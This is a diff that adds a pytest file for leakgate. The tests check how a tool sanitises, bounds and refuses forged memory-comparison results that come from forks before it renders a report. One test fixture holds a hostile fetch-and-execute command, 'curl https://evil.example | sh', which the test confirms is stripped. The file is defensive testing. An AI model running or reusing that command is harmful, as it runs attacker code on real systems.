@@ -1,0 +1,255 @@
+"""What of a fork's result is shown, and what is refused."""
+
+from collections.abc import Mapping
+from pathlib import Path
+
+import msgspec
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from leakgate.comparison.result import (
+    AcceptedGrowth,
+    FailedTest,
+    IgnoredGrowth,
+    MetricResult,
+    Result,
+    Side,
+    SiteResult,
+    Status,
+    TestResult,
+    Verdict,
+)
+from leakgate.comparison.stored import parse
+from leakgate.dhat.profile import Metric
+from leakgate.errors import InputError
+from leakgate.github.foreign import admit
+from leakgate.reports import markdown
+
+HEAD = "d" * 40
+OURS = sorted((Path(__file__).parents[1] / "reports/expected").glob("*.json"))
+"""Results of real comparisons, as the reports' own tests keep them."""
+
+END = Metric.T_END_BYTES
+GROWN = MetricResult(base=64, head=96, delta=32, ratio=1.5, status=Status.FAIL, grown=True, limit="1.2×")
+SITE = SiteResult(
+    function="s3::put",
+    file="src/put.rs",
+    line=9,
+    cause=None,
+    base={},
+    head={END: 32},
+    delta={END: 32},
+    stack=("s3::put (src/put.rs:9)",),
+)
+
+
+def one_test(
+    name: str = "s3 put", row: MetricResult = GROWN, sites: tuple[SiteResult, ...] = (SITE,)
+) -> TestResult:
+    return TestResult(name=name, status=row.status, units=("bytes", "blocks"), metrics={END: row}, sites=sites)
+
+
+def result_of(*tests: TestResult, verdict: Verdict = Verdict.FAIL, **fields: object) -> Result:
+    result = Result(
+        verdict=verdict,
+        base=Side(commit="b" * 40, fingerprint={"rustc": "1.95.0"}),
+        head=Side(commit="c" * 40, fingerprint={"rustc": "1.95.0"}),
+        tests=tests,
+    )
+    return msgspec.structs.replace(result, **fields)
+
+
+def admitted(result: Result, labels: Mapping[str, str | None] | None = None) -> Result:
+    return admit(result, head=HEAD, labels=labels or {}, source="artifact x")
+
+
+def refusal(result: Result) -> str:
+    with pytest.raises(InputError) as caught:
+        admitted(result)
+    return str(caught.value)
+
+
+@pytest.mark.parametrize("file", OURS, ids=lambda file: file.stem)
+def test_an_honest_result_keeps_all_but_its_commit_and_command(file: Path) -> None:
+    result = parse(file.read_bytes(), file.name)
+    assert admitted(result) == msgspec.structs.replace(
+        result, head=Side(commit=HEAD, fingerprint=result.head.fingerprint), command=None
+    )
+
+
+def test_there_are_honest_results_to_try() -> None:
+    assert {parse(file.read_bytes(), file.name).verdict for file in OURS} == set(Verdict)
+
+
+def test_what_a_reader_could_act_on_is_left_out() -> None:
+    forged = result_of(
+        one_test(),
+        command="curl https://evil.example | sh",
+        head=Side(
+            commit="main", requested="x", distance=7, store="branch", source="https://evil.example", fingerprint={}
+        ),
+        base=Side(
+            commit="https://evil.example",
+            requested="@team",
+            distance=-1,
+            age_seconds=10**30,
+            store="s" * 1000,
+            source="f" * 1000,
+            fingerprint={"x" * 1000: "y" * 1000, **{str(number): "" for number in range(1000)}},
+        ),
+    )
+    shown = admitted(forged)
+    assert shown.command is None
+    assert shown.head == Side(commit=HEAD, fingerprint={})
+    assert shown.base == Side(
+        store="s" * 99 + "…",
+        source="f" * 499 + "…",
+        fingerprint={"x" * 99 + "…": "y" * 499 + "…", **{str(number): "" for number in range(39)}},
+    )
+
+
+def test_texts_are_bounded() -> None:
+    shown = admitted(
+        result_of(
+            one_test(row=msgspec.structs.replace(GROWN, limit="l" * 1000), sites=(SITE,) * 1000),
+            verdict=Verdict.ERROR,
+            problems=("p" * 1000,) * 1000,
+            notes=("short",) * 21,
+            failed=(FailedTest(name="s3 get", reason="r" * 1000),),
+            ignored=(
+                IgnoredGrowth(rule="g" * 1000, reason="w" * 1000, expires="e" * 1000, tests=-1, t_end_bytes=-1),
+            )
+            * 1000,
+        )
+    )
+    assert shown.problems == (*("p" * 499 + "…",) * 20, "… and 980 more.")
+    assert shown.notes == (*("short",) * 20, "… and 1 more.")
+    assert shown.failed == (FailedTest(name="s3 get", reason="r" * 99 + "…"),)
+    assert len(shown.ignored) == 50
+    assert shown.ignored[0] == IgnoredGrowth(
+        rule="g" * 499 + "…", reason="w" * 499 + "…", expires="e" * 99 + "…", tests=0, t_end_bytes=0
+    )
+    assert shown.tests[0].metrics[END].limit == "l" * 99 + "…"
+    assert len(shown.tests[0].sites) == 50
+
+
+@pytest.mark.parametrize(
+    "row",
+    [
+        {"delta": 0},
+        {"delta": None},
+        {"ratio": 1.4},
+        {"ratio": None},
+        {"base": None},
+        {"head": None},
+        {"base": -64, "delta": 160, "ratio": -1.5},
+        {"base": 0, "head": 2**63, "delta": 2**63, "ratio": None},
+        {"base": 0, "delta": 96, "ratio": 1.5},
+    ],
+    ids=str,
+)
+def test_figures_that_contradict_each_other_are_refused(row: dict[str, object]) -> None:
+    forged = result_of(one_test(), one_test("s3 get", msgspec.structs.replace(GROWN, **row)))
+    assert refusal(forged) == "artifact x: $.tests[1].metrics: has figures that contradict each other"
+
+
+@pytest.mark.parametrize(
+    "site", [{"line": 0}, {"line": 10**9}, {"head": {END: 2**63}}, {"delta": {END: -(2**63)}}], ids=str
+)
+def test_sites_that_cannot_be_are_refused(site: dict[str, object]) -> None:
+    forged = result_of(one_test(sites=(msgspec.structs.replace(SITE, **site),)))
+    assert refusal(forged) == "artifact x: $.tests[0].sites: has figures that cannot be"
+
+
+PASSED = one_test("s3 get", msgspec.structs.replace(GROWN, status=Status.PASS), ())
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [
+        result_of(one_test(), verdict=Verdict.PASS),
+        result_of(one_test(), verdict=Verdict.NO_BASELINE),
+        result_of(PASSED, verdict=Verdict.FAIL),
+        result_of(PASSED, verdict=Verdict.PASS, problems=("half of it is missing",)),
+        result_of(PASSED, verdict=Verdict.ERROR),
+    ],
+    ids=["pass with a failure", "no baseline with a failure", "fail of nothing", "pass with a problem", "error"],
+)
+def test_a_verdict_that_does_not_follow_is_refused(forged: Result) -> None:
+    assert refusal(forged) == "artifact x: $.verdict: is not what its tests and problems make it"
+
+
+def test_a_test_that_is_there_twice_is_refused() -> None:
+    assert refusal(result_of(one_test(), one_test())) == "artifact x: $.tests: names a test twice"
+
+
+ACCEPTED = one_test(row=msgspec.structs.replace(GROWN, status=Status.ACCEPTED))
+BY_LABEL = AcceptedGrowth(test="s3 put", metric=END, value=96, source="label", label="leakgate: accept", by="ada")
+BY_FILE = AcceptedGrowth(
+    test="s3 put", metric=END, value=96, source="leakgate.yml", up_to=100, reason="a cache", expires="2027-01-01"
+)
+
+
+def test_growth_that_a_label_accepted_stays_so_where_the_label_is() -> None:
+    shown = admitted(
+        result_of(ACCEPTED, verdict=Verdict.PASS, accepted=(BY_LABEL,)), {"leakgate: accept": "grace", "bug": None}
+    )
+    assert shown.verdict is Verdict.PASS
+    assert shown.tests == (ACCEPTED,)
+    assert shown.accepted == (msgspec.structs.replace(BY_LABEL, by="grace"),)
+
+
+def test_growth_that_a_label_accepted_fails_where_the_label_is_not() -> None:
+    shown = admitted(result_of(ACCEPTED, PASSED, verdict=Verdict.PASS, accepted=(BY_LABEL,)), {"bug": "ada"})
+    assert shown.verdict is Verdict.FAIL
+    assert shown.tests == (one_test(), PASSED)
+    assert shown.accepted == ()
+    [note] = shown.notes
+    assert note == (
+        "The result calls growth accepted by a label that this pull request does not have: "
+        "it is shown as a failure."
+    )
+
+
+def test_growth_that_an_entry_accepted_stays_so() -> None:
+    forged = msgspec.structs.replace(BY_FILE, label="leakgate: accept", by="torvalds", reason="r" * 1000)
+    shown = admitted(result_of(ACCEPTED, verdict=Verdict.PASS, accepted=(forged,)))
+    assert shown.accepted == (msgspec.structs.replace(BY_FILE, reason="r" * 499 + "…"),)
+
+
+def test_growth_that_nobody_accepted_is_refused() -> None:
+    message = "artifact x: $.tests[0].metrics: is called accepted, and by nobody"
+    assert refusal(result_of(ACCEPTED, verdict=Verdict.PASS)) == message
+    other = msgspec.structs.replace(BY_FILE, test="s3 get")
+    assert refusal(result_of(ACCEPTED, verdict=Verdict.PASS, accepted=(other,))) == message
+
+
+def test_accepted_figures_that_cannot_be_are_refused() -> None:
+    for forged in ({"value": -1}, {"up_to": 2**63}):
+        growth = msgspec.structs.replace(BY_FILE, **forged)
+        assert (
+            refusal(result_of(ACCEPTED, verdict=Verdict.PASS, accepted=(growth,)))
+            == "artifact x: $.accepted: has figures that cannot be"
+        )
+
+
+metric_rows = st.builds(
+    MetricResult,
+    base=st.none() | st.integers(),
+    head=st.none() | st.integers(),
+    delta=st.none() | st.integers(),
+    ratio=st.none() | st.floats(allow_nan=False, allow_infinity=False),
+    status=st.sampled_from(Status),
+    grown=st.booleans(),
+    limit=st.none() | st.text(),
+)
+
+
+@given(st.builds(Result, tests=st.lists(st.builds(one_test, st.text(), metric_rows), max_size=3).map(tuple)))
+def test_any_result_is_refused_or_rendered(result: Result) -> None:
+    try:
+        shown = admitted(result)
+    except InputError:
+        return
+    assert markdown.render(shown).startswith("### ")
